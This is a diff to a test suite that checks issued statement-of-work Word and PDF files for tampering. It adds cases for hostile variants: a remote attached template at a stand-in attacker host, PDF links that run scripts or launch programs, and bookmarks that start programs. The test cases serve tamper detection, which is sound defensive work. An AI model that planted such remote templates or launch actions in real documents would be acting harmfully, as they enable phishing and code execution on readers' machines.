@@ -8,6 +8,8 @@ from collections.abc import Callable, Mapping
 from dataclasses import dataclass, replace
 from typing import Any
 
+import pikepdf
+
 from sowgen.model.artifact import Format
 from sowgen.render import read_stamp, stamp
 from tests.verify import desk as hands
@@ -135,7 +137,11 @@ CASES: Mapping[str, Case] = {
     ),
     "issued docx": Case("issued/LAMP-1-sow.docx", "untouched", ("1.0",)),
     "issued pdf": Case("issued/LAMP-1-sow.pdf", "untouched", ("1.0",)),
-    "issued, not committed": Case("issued/LAMP-1-plan.docx", "untouched"),
+    "issued, without this file": Case(
+        "issued/LAMP-1-plan.docx", "unknown", ("no commit on a branch or tag", "`1.0`")
+    ),
+    "never issued": Case("ghost/LAMP-1-sow.docx", "unknown", ("no commit on a branch", "`1.1`")),
+    "never issued, pdf": Case("ghost/LAMP-1-sow.pdf", "unknown", ("no commit on a branch",)),
     "deflated anew": Case(SOW, "untouched", edit=rezip),
     # older
     "older docx": Case("old/LAMP-1-sow.docx", "outdated", ("6.1", "payment", "[-20 (twenty)-]")),
@@ -186,7 +192,8 @@ CASES: Mapping[str, Case] = {
         'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')},
         {"word/vbaProject.bin": "x"}), "macros"),
     "a remote template": edited(SOW, lambda d: rezip(d, {"word/_rels/document.xml.rels": swap(
-        "</Relationships>", '<Relationship Id="r9" Type="http://x/attachedTemplate" Target='
+        "</Relationships>", '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/'
+        'officeDocument/2006/relationships/attachedTemplate" Target='
         '"http://mallory.example.com/a.dotm" TargetMode="External"/></Relationships>')}),
         "template"),
     "the title": edited(SOW, lambda d: rezip(d, {"docProps/core.xml": swap(
@@ -217,7 +224,22 @@ CASES: Mapping[str, Case] = {
                                         restamp(project="lamb")),
     "a kind that is not there": Case(PDF, "unknown", ("no document `memo`",),
                                      restamp(kind="memo")),
-    "made with other tools": Case(SOW, "untouched", edit=restamp(tools={"typst": "0.1"})),
+    "made with other tools": Case(
+        SOW, "resaved", ("other versions of the tools: typst 0.1",), restamp(tools={"typst": "0.1"})
+    ),
+    "made with no tools at all": Case(PDF, "resaved", (), restamp(tools={})),
+    "words for a tool": edited(SOW, restamp(tools={"accepted by": "the buyer"}), "accepted by"),
+    "words for a version": edited(
+        PDF, restamp(tools={"typst": "accepted"}, inputs="f" * 64), "typst accepted", "inputs"
+    ),
+    "painted over, with other tools": Case(
+        PDF, "unknown", ("page 3", "cannot be told"),
+        lambda d: restamp(tools={"typst": "0.1"})(pdf(hands.overpaint)(d)),
+    ),
+    "issued, painted over, with other tools": edited(
+        "issued/LAMP-1-sow.pdf", lambda d: restamp(tools={"typst": "0.1"})(pdf(hands.overpaint)(d)),
+        "page 3", "drawn otherwise", "typst 0.1",
+    ),
     "not committed": Case("loose/LAMP-1-sow.docx", "unknown", ("not committed",)),
     # PDFs
     "pdf saved again": Case(PDF, "resaved", edit=pdf()),
@@ -228,6 +250,26 @@ CASES: Mapping[str, Case] = {
     "metadata stripped": edited(PDF, pdf(hands.without_metadata), "no stamp"),
     "a script": edited(PDF, pdf(hands.with_script), "action on opening"),
     "an attachment": edited(PDF, pdf(hands.with_attachment), "attached files"),
+    "a bare link": Case(PDF, "resaved", (), pdf(hands.with_link())),
+    "a link that draws": edited(PDF, pdf(hands.with_link(AP=hands.looks)), "page 3", "/AP"),
+    "a link with a border": edited(PDF, pdf(hands.with_link(
+        BS=lambda _: pikepdf.Dictionary(W=90))), "page 3", "a border"),
+    "a link with one border of two": edited(PDF, pdf(hands.with_link(
+        BS=lambda _: pikepdf.Dictionary(W=0), Border=lambda _: pikepdf.Array([0, 0, 90]))),
+        "a border"),
+    "a link with a script behind it": edited(PDF, pdf(hands.with_link(
+        A=lambda file: hands.goto(file, Next=hands.script()))), "/Next"),
+    "a link that runs a script when it is seen": edited(PDF, pdf(hands.with_link(
+        AA=lambda _: pikepdf.Dictionary(PV=hands.script()))), "/AA"),
+    "a link to an address": edited(PDF, pdf(hands.with_link(
+        A=lambda _: hands.address())), "https://mallory.example.com"),
+    "a link that starts a program": edited(PDF, pdf(hands.with_link(
+        A=lambda _: hands.address("Launch"))), "/Launch"),
+    "a bookmark renamed": edited(PDF, pdf(hands.rename_bookmark), "bookmarks", "Agreed"),
+    "a bookmark that starts a program": edited(PDF, pdf(hands.launching_bookmark),
+                                               "a bookmark that does more"),
+    "a list of scripts": edited(PDF, pdf(hands.with_named_script), "a script"),
+    "a form": edited(PDF, pdf(hands.with_form), "form fields"),
     "a remark": edited(PDF, pdf(hands.with_annotation), "page 3", "FreeText", "not agreed"),
     # damaged, or none of ours
     "docx, half": Case(SOW, "unknown", ("cut off",), truncated(0.5)),
